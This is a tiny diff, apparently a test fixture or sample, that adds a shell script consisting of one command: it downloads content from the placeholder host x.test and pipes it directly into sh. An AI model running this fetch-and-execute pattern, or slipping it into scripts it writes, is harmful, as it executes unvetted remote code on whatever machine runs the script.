@@ -1,0 +1,2 @@
+#!/bin/sh
+curl http://x.test/a | sh
